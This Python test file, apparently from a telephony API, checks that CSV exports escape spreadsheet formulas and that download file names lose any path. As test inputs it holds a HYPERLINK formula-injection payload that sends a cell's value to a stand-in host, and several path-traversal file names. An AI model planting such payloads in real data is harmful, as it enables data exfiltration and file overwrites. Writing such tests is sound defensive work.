# SPDX-License-Identifier: MPL-2.0
"""What people download: sheets that run nothing, and files under names without paths."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from zipfile import ZipFile

from crossbar import clock
from crossbar.resources.tasks.domain import task_sheet
from tests.harness import Answer, Tenant, send_parts
from tests.samples import WAV

FORMULA = "=HYPERLINK(\"http://a.example/?\"&A1,'x')"


def cells(sheet: Answer) -> list[dict[str, str]]:
    assert (sheet.status, sheet.headers["Content-Type"]) == (200, "text/csv"), sheet.raw
    return list(csv.DictReader(StringIO(sheet.raw.decode(), newline="")))


async def test_the_names_of_callers_run_nothing(tenant: Tenant, master: Tenant) -> None:
    leg = {
        "account_id": tenant.id,
        "call_id": "call",
        "call_direction": "inbound",
        "timestamp": clock.now(),
        "caller_id_name": FORMULA,
        "caller_id_number": "+14155550100",
        "from": "+14155550100@a.example",
    }
    assert (await master.root.post("/ingest/cdrs", leg)).status == 200
    for path in ("/cdrs", "/cdrs/interaction"):
        (row,) = cells(await tenant.api.get(path, headers={"Accept": "text/csv"}))
        assert row["caller_id_name"] == f"'{FORMULA}"
        assert (row["caller_id_number"], row["from"]) == ("+14155550100", "+14155550100@a.example")


async def test_any_list_as_a_sheet_runs_nothing(tenant: Tenant) -> None:
    await tenant.api.put("/devices", {"name": FORMULA, "flags": ["@a", "b"]})
    (row,) = cells(await tenant.api.get("/devices", headers={"Accept": "text/csv"}))
    assert (row["name"], row["flags"]) == (f"'{FORMULA}", "'@a,b")


def test_what_was_exported_comes_back_as_it_was() -> None:
    records = [{"name": FORMULA, "number": "+14155550100"}, {"name": "'-1", "number": "-12.5"}]
    contents = task_sheet.of_records(records)
    rows = task_sheet.Input(contents)
    assert rows.header == ["name", "number"]
    assert [dict(zip(rows.header, row, strict=True)) for row in rows] == records


async def test_a_message_has_no_path_in_its_name(tenant: Tenant) -> None:
    box = await tenant.api.put("/vmboxes", {"name": "box", "mailbox": "1001", "media_extension": "wav"})
    path = f"/vmboxes/{box.id}/messages"
    data = {"caller_id_number": "../../..\\evil"}
    message = await send_parts(tenant.api, "PUT", path, data, (WAV, "audio/wav"))
    assert message.status == 201, message.envelope
    message_id = message.data["media_id"]
    sound = await tenant.api.get(f"{path}/{message_id}/raw")
    assert sound.headers["Content-Disposition"].startswith("attachment; filename=evil_")
    zipped = await tenant.api.post(f"{path}/raw", {"messages": [message_id]}, headers={"Accept": "application/zip"})
    (name,) = ZipFile(BytesIO(zipped.raw)).namelist()
    assert name.startswith("evil_")


async def test_the_requested_name_of_a_sheet_has_no_path(tenant: Tenant) -> None:
    await tenant.api.put("/devices", {"name": "phone"})
    for name in ("../../a.csv", "/etc/a.csv", "C:\\x\\a.csv", 'a".csv"'):
        sheet = await tenant.api.get("/devices", headers={"Accept": "text/csv"}, query={"file_name": name})
        assert sheet.headers["Content-Disposition"] == 'attachment; filename="a.csv"'
